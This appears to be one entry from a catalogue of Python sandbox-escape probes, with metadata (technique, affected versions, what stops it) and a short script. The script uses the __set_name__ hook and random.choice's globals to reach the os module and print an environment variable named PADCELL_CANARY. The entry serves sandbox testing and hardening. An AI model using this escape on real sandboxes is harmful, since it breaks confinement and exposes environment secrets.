# id: set-name-hook
# family: protocol-hooks
# kind: escape
# invariant: D, E
# origin: found while probing CPython
# technique: every value of a class body with __set_name__ is called while the class is made, with a name of the guest's choice
# needs: 3.6+
# pythons: 3.11.2, 3.12.1, 3.13.0
# stopped-by: permits, builtins
# fix: structural
# alive-when: canary

import random


class Announce:
    def __set_name__(self, owner, name):
        print(random.choice.__func__.__globals__["_os"].environ[name])


class Body:
    PADCELL_CANARY = Announce()
